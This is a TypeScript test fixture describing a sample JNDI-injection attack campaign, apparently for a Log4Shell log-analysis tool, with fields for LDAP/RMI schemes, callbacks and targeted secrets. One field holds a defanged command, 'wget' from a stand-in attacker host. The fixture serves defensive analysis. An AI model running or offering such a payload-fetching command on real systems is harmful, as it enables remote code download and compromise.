import { type Campaign, instant } from '../../src/core/index.ts'

/** A campaign of twelve attacks, two of which called back. */
export const sampleCampaign: Campaign = {
  id: 'c-0123456789abcdef',
  host: '*.evil.example',
  port: 1_389,
  path: 'Basic/Command/Base64/*',
  command: 'wget hxxp://evil[.]example/<b>',
  schemes: ['ldap', 'rmi'],
  attacks: 12,
  outcome: 'callback-seen',
  likely: 3,
  callbackSeen: 2,
  firstSeen: instant('2021-12-10T12:43:11Z'),
  lastSeen: instant('2021-12-11T12:43:11Z'),
  sources: { names: ['a', 'b', 'c', 'd'].map((name) => ({ name, count: 2 })), others: 4 },
  targets: { names: [{ name: 'access.log', count: 12 }], others: 0 },
  techniques: { names: [{ name: 'in plain letters', count: 12 }], others: 0 },
  secrets: ['env:SECRET'],
  scanner: null,
}
